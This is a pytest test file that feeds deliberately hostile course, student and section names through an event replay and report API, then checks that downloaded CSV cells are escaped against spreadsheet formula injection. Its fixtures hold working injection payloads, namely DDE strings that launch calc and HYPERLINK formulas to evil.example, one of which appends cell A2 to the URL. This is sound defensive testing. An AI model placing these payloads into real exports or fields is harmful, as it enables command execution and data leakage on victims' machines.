"""Hostile names end to end (issue 11, items 1 and 2): events replayed by the CLI, reports run and downloaded from `serve`.

Every report file must parse with `csv.reader` into exactly the header plus the
Report's `current_line` rows, and each text cell that a spreadsheet would run
as a formula (starting with = + - @ tab or CR) must arrive with a leading `'`,
as must each place inside a cell where a `;`-locale, tab-separated or
line-based reader starts another cell (after `;`, tab, CR or LF); ids and
numbers stay as they are. No reading of the downloaded file starts a cell with a formula.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator

import pytest
import requests

from consumer.store.engine import make_engine
from consumer.store.migrate import upgrade
from tests.api.server import ApiServer, create_token
from tests.factory import course_event, progress_event, section_event
from tests.helpers import wait_until
from tests.reports.readings import formula_cells

ACCOUNT = 91
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# course id -> (course name, course SIS id); user id -> (course id, name, next requirement url); section id -> (course id, name, SIS id)
COURSES = {
    4001: ('=HYPERLINK("http://x","y")', "@SUM(1+1)*cmd|' /C calc'!A0"),
    4002: ("Ada\r=1+1", "-2+3"),
    4003: ("Plain Course, with \"quotes\"", "SIS-4003"),
    4004: ("Chemie;=HYPERLINK(\"http://evil.example/?\"&A2;\"Info\")", "SIS;-4004"),
}
# course id -> (course workflow_state, the error of its progress event for student 600 + course id % 10)
STATES = {4001: ("@available", "=cmd|' /C calc'!A0"), 4002: ("available;=1+1", "not a student\r+1"),
          4003: ("available", "x\t-1"), 4004: ("-", "@error")}
STUDENTS = {
    501: (4001, "+SUM(1,2)", "=cmd|' /C calc'!A0"),
    502: (4001, "-2+3", "http://canvas.example.edu/courses/4001/modules/items/2"),
    503: (4002, "\tTabbed", "\r=HYPERLINK(\"http://evil.example\")"),
    504: (4002, "Line\rbreak\r=1+1", "@x"),
    505: (4003, "Two\nlines\r\n+and CRLF", None),
    506: (4003, " =leading space", "-"),
    507: (4003, "Grace Hopper", "'=already quoted"),
}
SECTIONS = {
    9001: (4001, "\r=HYPERLINK(\"http://evil.example\")", "=1+1"),
    9002: (4002, "@Section", "\t"),
    9003: (4003, "Section, \"A\"\r\n", "+1"),
    9004: (4004, "Gruppe A;+1", "x\n@y"),
}
# section id -> (integration id, workflow_state)
SECTION_EXTRAS = {9001: ("=1+1", "+active"), 9002: ("a;@b", "active"), 9003: (None, "active\r=1"), 9004: ("-x", "-")}


def expected(text: str | None) -> str:
    """A `'` after each `;`, tab, CR or LF that a formula character follows (past any `"`), then at the start."""
    if text is None:
        return ""
    inner = re.sub(r'([;\t\r\n])(?="*[=+\-@\t\r])', r"\1'", text)
    return "'" + inner if inner[:1] in FORMULA_STARTS else inner


def hostile_events() -> list[dict]:
    events = []
    for course, (name, sis) in COURSES.items():
        events.append(course_event("2019-10-28T14:02:11Z", course_id=str(course), account_id=str(ACCOUNT), name=name,
                                   sis_source_id=sis, workflow_state=STATES[course][0]))
        failed = progress_event("2019-09-01T10:00:00Z", course_id=str(course), user_id=str(600 + course % 10),
                                error=STATES[course][1], course_name=name, sis_source_id=sis)
        failed["body"]["course"]["account_id"] = str(ACCOUNT)
        events.append(failed)
    for user, (course, name, url) in STUDENTS.items():
        event = progress_event("2019-09-01T10:00:00Z", course_id=str(course), user_id=str(user), done=1, total=3,
                               course_name=COURSES[course][0], sis_source_id=COURSES[course][1])
        event["body"]["user"].update(name=name, email=None)
        event["body"]["course"]["account_id"] = str(ACCOUNT)
        event["body"]["progress"]["next_requirement_url"] = url
        events.append(event)
    for section, (course, name, sis) in SECTIONS.items():
        events.append(section_event("2019-09-02T10:00:00Z", section_id=str(section), course_id=str(course), name=name,
                                    sis_source_id=sis, integration_id=SECTION_EXTRAS[section][0],
                                    workflow_state=SECTION_EXTRAS[section][1]))
    return events


@pytest.fixture(scope="module")
def hostile(new_pg_database, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[ApiServer, str]]:
    url = new_pg_database()
    engine = make_engine(url)
    upgrade(engine)
    engine.dispose()
    directory = tmp_path_factory.mktemp("hostile")
    events = directory / "events.ndjson"
    events.write_text("".join(json.dumps(event) + "\n" for event in hostile_events()))
    replayed = subprocess.run([sys.executable, "-m", "consumer", "replay", str(events), "--json"],
                              env={**os.environ, "DATABASE_URL": url}, capture_output=True, timeout=120)
    assert replayed.returncode == 0, replayed.stderr.decode()
    assert '"rejected": 0' in replayed.stdout.decode(), replayed.stdout.decode()
    server = ApiServer(url, directory / "serve.log").start()
    try:
        yield server, create_token(url, ACCOUNT)
    finally:
        server.stop()


def download(server: ApiServer, token: str, report: str) -> tuple[list[list[str]], dict]:
    headers = {"Authorization": f"Bearer {token}"}
    started = requests.post(f"{server.url}/api/v1/accounts/{ACCOUNT}/reports/{report}", headers=headers, timeout=10)
    assert started.status_code == 200, started.text
    shown = f"{server.url}/api/v1/accounts/{ACCOUNT}/reports/{report}/{started.json()['id']}"

    def finished() -> bool:
        return requests.get(shown, headers=headers, timeout=10).json()["status"] not in ("created", "running")

    wait_until(finished, 30, f"{report} to finish")
    done = requests.get(shown, headers=headers, timeout=10).json()
    assert done["status"] == "complete", done
    body = requests.get(done["file_url"], headers=headers, timeout=10)
    assert body.status_code == 200 and len(body.content) == done["attachment"]["size"]
    assert formula_cells(body.content.decode("utf-8")) == [], report
    rows = list(csv.reader(io.StringIO(body.content.decode("utf-8"), newline=""), strict=True))
    return rows, done


def records(rows: list[list[str]]) -> list[dict[str, str]]:
    header = rows[0]
    assert all(len(row) == len(header) for row in rows[1:]), rows
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


def test_progress_report_cells_are_neutralised_and_the_file_has_current_line_rows(hostile) -> None:
    rows, report = download(*hostile, "course_progress_csv")
    assert len(rows) - 1 == report["current_line"] == len(STUDENTS) + len(COURSES)
    got = {int(r["user id"]): (int(r["course id"]), r["course name"], r["course sis id"], r["user name"], r["next requirement url"],
                               r["requirement count"], r["progress error"]) for r in records(rows)}
    assert got == {
        **{user: (course, expected(COURSES[course][0]), expected(COURSES[course][1]), expected(name), expected(url), "3", "")
           for user, (course, name, url) in STUDENTS.items()},
        **{600 + course % 10: (course, expected(name), expected(sis), "Isaac Newton", "", "", expected(STATES[course][1]))
           for course, (name, sis) in COURSES.items()},
    }


def test_completion_report_cells_are_neutralised_and_the_file_has_current_line_rows(hostile) -> None:
    rows, report = download(*hostile, "course_completion_csv")
    assert len(rows) - 1 == report["current_line"] == len(COURSES)
    got = {int(r["course id"]): (r["course name"], r["course sis id"], r["account id"], r["state"]) for r in records(rows)}
    assert got == {course: (expected(name), expected(sis), str(ACCOUNT), expected(STATES[course][0]))
                   for course, (name, sis) in COURSES.items()}


def test_sections_report_cells_are_neutralised_and_the_file_has_current_line_rows(hostile) -> None:
    rows, report = download(*hostile, "course_sections_csv")
    assert len(rows) - 1 == report["current_line"] == len(SECTIONS)
    got = {int(r["section id"]): (int(r["course id"]), r["name"], r["section sis id"], r["integration id"], r["state"])
           for r in records(rows)}
    assert got == {section: (course, expected(name), expected(sis), *map(expected, SECTION_EXTRAS[section]))
                   for section, (course, name, sis) in SECTIONS.items()}

